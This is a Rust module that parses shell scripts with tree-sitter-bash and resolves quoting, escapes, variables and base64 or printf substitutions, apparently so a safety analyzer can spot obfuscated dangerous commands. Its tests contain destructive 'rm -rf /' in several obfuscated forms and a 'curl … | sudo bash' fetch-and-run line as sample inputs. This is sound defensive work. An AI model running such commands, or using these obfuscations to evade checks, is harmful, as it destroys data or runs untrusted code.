//! Shell source → the simple commands it runs, parsed with tree-sitter-bash.
//!
//! The analyzers reason over this structure, never over the raw text: each
//! [`Command`] has its name and arguments resolved to literal text where the
//! shell would (quotes, escapes, `$'…'`, variables assigned earlier in the
//! same script, `$(printf '\x72\x6d')` and `$(echo … | base64 -d)` are
//! evaluated), its redirections, its place in a pipeline, and the scripts of
//! the command and process substitutions inside its words.

use std::collections::HashMap;

use base64::Engine as _;
use tree_sitter::{Node, Parser};

/// Longest source handed to the parser (bounds time and memory).
pub const MAX_SOURCE: usize = 30_000;

/// One word of a command (its name or an argument).
#[derive(Debug, Clone, Default)]
pub struct Word {
    /// The literal value when the shell's expansion is known statically.
    pub text: Option<String>,
    /// The source text of the word.
    pub raw: String,
    /// Scripts of the `$(…)`, `` `…` `` and `<(…)` inside the word.
    pub subs: Vec<Script>,
}

impl Word {
    /// The literal value, or the source text when it is not static.
    pub fn best(&self) -> &str {
        self.text.as_deref().unwrap_or(&self.raw)
    }
}

/// A redirection (`> file`, `< file`, `<<< text`, `<< EOF`).
#[derive(Debug, Clone)]
pub struct Redirect {
    /// The operator (`>`, `>>`, `<`, `&>`, `>&`, `<<<`, `<<`, …).
    pub op: String,
    /// The target (file, here-string or here-document body).
    pub target: Word,
}

impl Redirect {
    /// Whether the redirection writes to its target.
    pub fn writes(&self) -> bool {
        self.op.contains('>')
    }
}

/// One simple command.
#[derive(Debug, Clone, Default)]
pub struct Command {
    /// The command word (`None` for a bare assignment).
    pub name: Option<Word>,
    /// The arguments.
    pub args: Vec<Word>,
    /// Redirections, including those of an enclosing compound statement.
    pub redirects: Vec<Redirect>,
    /// `(pipeline id, stage)` when the command is a stage of a pipeline.
    pub stage: Option<(usize, usize)>,
}

/// A parsed script.
#[derive(Debug, Clone, Default)]
pub struct Script {
    /// Every simple command, in source order (commands inside substitutions
    /// live in their [`Word::subs`]).
    pub commands: Vec<Command>,
    /// Number of stages per pipeline id.
    pub pipelines: HashMap<usize, usize>,
    /// Functions defined in the script: name → names of the commands in its body
    /// that run as a pipeline stage or in the background.
    pub functions: Vec<(String, Vec<String>)>,
    /// Whether the parser had to recover from a syntax error.
    pub has_error: bool,
}

/// Parses `source` (cut at [`MAX_SOURCE`] bytes); `None` when the parser
/// gives up.
pub fn parse(source: &str) -> Option<Script> {
    let mut cut = source.len().min(MAX_SOURCE);
    while !source.is_char_boundary(cut) {
        cut -= 1;
    }
    let source = &source[..cut];
    let mut parser = Parser::new();
    parser
        .set_language(&tree_sitter_bash::LANGUAGE.into())
        .ok()?;
    let tree = parser.parse(source, None)?;
    let root = tree.root_node();
    let mut walker = Walker {
        src: source.as_bytes(),
        vars: HashMap::new(),
        next_pipeline: 0,
        depth: 0,
    };
    let mut script = Script {
        has_error: root.has_error(),
        ..Script::default()
    };
    walker.collect(root, None, &mut script);
    Some(script)
}

struct Walker<'a> {
    src: &'a [u8],
    vars: HashMap<String, String>,
    next_pipeline: usize,
    depth: usize,
}

const MAX_NODE_DEPTH: usize = 200;

impl Walker<'_> {
    fn text(&self, node: Node) -> String {
        node.utf8_text(self.src).unwrap_or_default().to_string()
    }

    fn collect(&mut self, node: Node, stage: Option<(usize, usize)>, out: &mut Script) {
        if self.depth > MAX_NODE_DEPTH {
            out.has_error = true;
            return;
        }
        self.depth += 1;
        match node.kind() {
            "command" => {
                let cmd = self.command(node, stage);
                out.commands.push(cmd);
            }
            "pipeline" => {
                let id = self.next_pipeline;
                self.next_pipeline += 1;
                let mut n = 0;
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    self.collect(child, Some((id, n)), out);
                    n += 1;
                }
                out.pipelines.insert(id, n);
            }
            "redirected_statement" => {
                let start = out.commands.len();
                if let Some(body) = node.child_by_field_name("body") {
                    self.collect(body, stage, out);
                }
                let mut redirects = Vec::new();
                let mut cursor = node.walk();
                for r in node.children_by_field_name("redirect", &mut cursor) {
                    redirects.extend(self.redirect(r));
                }
                if start == out.commands.len() && !redirects.is_empty() {
                    out.commands.push(Command {
                        stage,
                        ..Command::default()
                    });
                }
                for c in &mut out.commands[start..] {
                    c.redirects.extend(redirects.iter().cloned());
                }
            }
            "variable_assignment" => {
                self.assignment(node, out);
            }
            "function_definition" => {
                let name = node
                    .child_by_field_name("name")
                    .map(|n| self.text(n))
                    .unwrap_or_default();
                let start = out.commands.len();
                if let Some(body) = node.child_by_field_name("body") {
                    self.collect(body, stage, out);
                }
                let body_text = node
                    .child_by_field_name("body")
                    .map(|b| self.text(b))
                    .unwrap_or_default();
                let staged: Vec<String> = out.commands[start..]
                    .iter()
                    .filter(|c| c.stage.is_some() || body_text.contains('&'))
                    .filter_map(|c| c.name.as_ref().map(|w| w.best().to_string()))
                    .collect();
                out.functions.push((name, staged));
            }
            "command_substitution" | "process_substitution" => {
                // Outside a command word (e.g. in a `for` list): scan it too.
                let sub = self.sub_script(node);
                out.commands.extend(sub.commands);
                out.has_error |= sub.has_error;
            }
            _ => {
                let mut cursor = node.walk();
                let children: Vec<Node> = node.named_children(&mut cursor).collect();
                for child in children {
                    self.collect(child, stage, out);
                }
            }
        }
        self.depth -= 1;
    }

    fn assignment(&mut self, node: Node, out: &mut Script) {
        let name = node
            .child_by_field_name("name")
            .map(|n| self.text(n))
            .unwrap_or_default();
        let value = node.child_by_field_name("value").map(|v| self.word(v));
        if let Some(v) = value {
            if let Some(t) = &v.text {
                self.vars.insert(name, t.clone());
            } else {
                self.vars.remove(&name);
            }
            if !v.subs.is_empty() {
                // `x=$(curl …)`: what runs in the substitution is scanned.
                out.commands.push(Command {
                    name: None,
                    args: vec![v],
                    ..Command::default()
                });
            }
        }
    }

    fn command(&mut self, node: Node, stage: Option<(usize, usize)>) -> Command {
        let mut cmd = Command {
            stage,
            ..Command::default()
        };
        let mut cursor = node.walk();
        let children: Vec<Node> = node.named_children(&mut cursor).collect();
        for child in children {
            match child.kind() {
                "command_name" => {
                    let w = child
                        .named_child(0)
                        .map(|n| self.word(n))
                        .unwrap_or_default();
                    cmd.name = Some(w);
                }
                "variable_assignment" => {
                    let mut tmp = Script::default();
                    self.assignment(child, &mut tmp);
                    for c in tmp.commands {
                        cmd.args.extend(c.args);
                    }
                }
                "file_redirect" | "herestring_redirect" | "heredoc_redirect" => {
                    cmd.redirects.extend(self.redirect(child));
                }
                "comment" => {}
                _ => {
                    if cmd.name.is_some() {
                        let w = self.word(child);
                        cmd.args.push(w);
                    }
                }
            }
        }
        cmd
    }

    fn redirect(&mut self, node: Node) -> Option<Redirect> {
        match node.kind() {
            "file_redirect" => {
                let mut op = String::new();
                let mut cursor = node.walk();
                for c in node.children(&mut cursor) {
                    if !c.is_named() {
                        op.push_str(&self.text(c));
                    }
                }
                let target = node
                    .child_by_field_name("destination")
                    .map(|d| self.word(d))
                    .unwrap_or_default();
                Some(Redirect { op, target })
            }
            "herestring_redirect" => {
                let target = node
                    .named_child(0)
                    .map(|d| self.word(d))
                    .unwrap_or_default();
                Some(Redirect {
                    op: "<<<".into(),
                    target,
                })
            }
            "heredoc_redirect" => {
                let mut body = String::new();
                let mut cursor = node.walk();
                for c in node.named_children(&mut cursor) {
                    if c.kind() == "heredoc_body" {
                        body.push_str(&self.text(c));
                    }
                }
                Some(Redirect {
                    op: "<<".into(),
                    target: Word {
                        text: Some(body.clone()),
                        raw: body,
                        subs: Vec::new(),
                    },
                })
            }
            _ => None,
        }
    }

    fn sub_script(&mut self, node: Node) -> Script {
        let mut script = Script::default();
        let saved = self.vars.clone();
        let mut cursor = node.walk();
        let children: Vec<Node> = node.named_children(&mut cursor).collect();
        for child in children {
            self.collect(child, None, &mut script);
        }
        self.vars = saved;
        script.has_error |= node.has_error();
        script
    }

    /// Resolves a word node.
    fn word(&mut self, node: Node) -> Word {
        let raw = self.text(node);
        let mut subs = Vec::new();
        let text = self.literal(node, &mut subs);
        Word { text, raw, subs }
    }

    fn literal(&mut self, node: Node, subs: &mut Vec<Script>) -> Option<String> {
        match node.kind() {
            "word" | "number" => Some(unescape_word(&self.text(node))),
            "raw_string" => {
                let t = self.text(node);
                Some(
                    t.trim_start_matches('\'')
                        .trim_end_matches('\'')
                        .to_string(),
                )
            }
            "ansi_c_string" => {
                let t = self.text(node);
                let inner = t
                    .strip_prefix("$'")
                    .and_then(|s| s.strip_suffix('\''))
                    .unwrap_or(&t);
                Some(decode_escapes(inner))
            }
            "string_content" => Some(unescape_dquoted(&self.text(node))),
            "string" | "concatenation" => {
                let mut cursor = node.walk();
                let children: Vec<Node> = node.named_children(&mut cursor).collect();
                let mut all = Some(String::new());
                for child in children {
                    let part = self.literal(child, subs);
                    all = match (all, part) {
                        (Some(mut a), Some(p)) => {
                            a.push_str(&p);
                            Some(a)
                        }
                        _ => None,
                    };
                }
                all
            }
            "simple_expansion" | "expansion" => {
                let t = self.text(node);
                let name = t
                    .trim_start_matches('$')
                    .trim_start_matches('{')
                    .trim_end_matches('}');
                if name == "IFS" {
                    return Some(" ".into());
                }
                self.vars.get(name).cloned()
            }
            "command_substitution" | "process_substitution" => {
                let script = self.sub_script(node);
                let value = if node.kind() == "command_substitution" {
                    static_output(&script)
                } else {
                    None
                };
                subs.push(script);
                value
            }
            _ => None,
        }
    }
}

/// What a substitution prints when that is known without running it:
/// `echo`/`printf` of literals, optionally piped through `base64 -d` or `rev`.
fn static_output(script: &Script) -> Option<String> {
    let mut out: Option<String> = None;
    for (i, cmd) in script.commands.iter().enumerate() {
        let name = cmd.name.as_ref()?.text.as_deref()?;
        let args: Option<Vec<&str>> = cmd.args.iter().map(|a| a.text.as_deref()).collect();
        let args = args?;
        match (i, name) {
            (0, "echo") => {
                let words: Vec<&str> = args
                    .iter()
                    .copied()
                    .filter(|a| !matches!(*a, "-e" | "-n" | "-ne" | "-en"))
                    .collect();
                out = Some(decode_escapes(&words.join(" ")));
            }
            (0, "printf") => {
                let first = args.first()?;
                if first.contains('%') {
                    return None;
                }
                out = Some(decode_escapes(first));
            }
            (i, "base64") if i > 0 && args.iter().any(|a| is_decode_flag(a)) => {
                let input: String = out?.chars().filter(|c| !c.is_whitespace()).collect();
                let bytes = base64::engine::general_purpose::STANDARD
                    .decode(input.as_bytes())
                    .ok()?;
                out = Some(String::from_utf8(bytes).ok()?);
            }
            (i, "rev") if i > 0 => out = Some(out?.chars().rev().collect()),
            _ => return None,
        }
    }
    out
}

/// `-d`, `--decode`, `-D` (also combined short flags such as `-di`).
pub fn is_decode_flag(arg: &str) -> bool {
    arg == "--decode"
        || (arg.starts_with('-') && !arg.starts_with("--") && (arg.contains('d') || arg == "-D"))
}

fn unescape_word(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('\n') | None => {}
                Some(n) => out.push(n),
            }
        } else {
            out.push(c);
        }
    }
    out
}

fn unescape_dquoted(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' && matches!(chars.peek(), Some('"' | '\\' | '$' | '`')) {
            if let Some(n) = chars.next() {
                out.push(n);
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// Decodes C-style escapes (`\x72`, `\162`, `\u0072`, `\n`, …) as `$'…'`,
/// `printf` and `echo -e` do.
pub fn decode_escapes(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let chars: Vec<char> = text.chars().collect();
    let mut i = 0;
    let digits = |from: usize, max: usize, radix: u32| -> (u32, usize) {
        let mut v = 0u32;
        let mut n = 0;
        while n < max {
            match chars.get(from + n).and_then(|c| c.to_digit(radix)) {
                Some(d) => {
                    v = v.saturating_mul(radix).saturating_add(d);
                    n += 1;
                }
                None => break,
            }
        }
        (v, n)
    };
    while i < chars.len() {
        let c = chars[i];
        if c != '\\' || i + 1 >= chars.len() {
            out.push(c);
            i += 1;
            continue;
        }
        let e = chars[i + 1];
        i += 2;
        match e {
            'n' => out.push('\n'),
            't' => out.push('\t'),
            'r' => out.push('\r'),
            'a' => out.push('\u{7}'),
            'e' | 'E' => out.push('\u{1b}'),
            '\\' => out.push('\\'),
            '\'' => out.push('\''),
            '"' => out.push('"'),
            'x' => {
                let (v, n) = digits(i, 2, 16);
                if n == 0 {
                    out.push_str("\\x");
                } else {
                    out.extend(char::from_u32(v));
                    i += n;
                }
            }
            'u' | 'U' => {
                let (v, n) = digits(i, if e == 'u' { 4 } else { 8 }, 16);
                if n == 0 {
                    out.push('\\');
                    out.push(e);
                } else {
                    out.extend(char::from_u32(v));
                    i += n;
                }
            }
            '0'..='7' => {
                let (v, n) = digits(i - 1, 3, 8);
                out.extend(char::from_u32(v));
                i += n - 1;
            }
            other => {
                out.push('\\');
                out.push(other);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(s: &Script) -> Vec<String> {
        s.commands
            .iter()
            .filter_map(|c| c.name.as_ref().map(|w| w.best().to_string()))
            .collect()
    }

    #[test]
    fn resolves_quotes_escapes_and_variables() {
        let s = parse(r#"'r'm -rf /; \rm x; $'\x72\x6d' y; a=rm; $a z; "${a}" w"#).unwrap();
        assert_eq!(names(&s), vec!["rm", "rm", "rm", "rm", "rm"]);
        assert_eq!(s.commands[0].args[1].text.as_deref(), Some("/"));
    }

    #[test]
    fn pipelines_redirects_and_substitutions() {
        let s =
            parse("curl -s http://x | sudo bash > /dev/null; echo $(base64 -d <<< aGk=)").unwrap();
        assert_eq!(s.commands[0].stage, Some((0, 0)));
        assert_eq!(s.commands[1].stage, Some((0, 1)));
        assert_eq!(s.pipelines.get(&0), Some(&2));
        assert_eq!(s.commands[1].redirects[0].op, ">");
        assert_eq!(s.commands[2].args[0].subs.len(), 1);
        assert_eq!(
            s.commands[2].args[0].subs[0].commands[0].redirects[0].op,
            "<<<"
        );
    }

    #[test]
    fn static_substitution_output_is_evaluated() {
        let s = parse(r#"$(printf '\x72\x6d') -rf /; x=$(echo cm0gLXJmIC8= | base64 -d)"#).unwrap();
        assert_eq!(
            s.commands[0].name.as_ref().unwrap().text.as_deref(),
            Some("rm")
        );
        assert_eq!(s.commands[1].args[0].text.as_deref(), Some("rm -rf /"));
    }

    #[test]
    fn escapes_decode() {
        assert_eq!(decode_escapes(r"\x72\155\u0020\n"), "rm \n");
    }
}
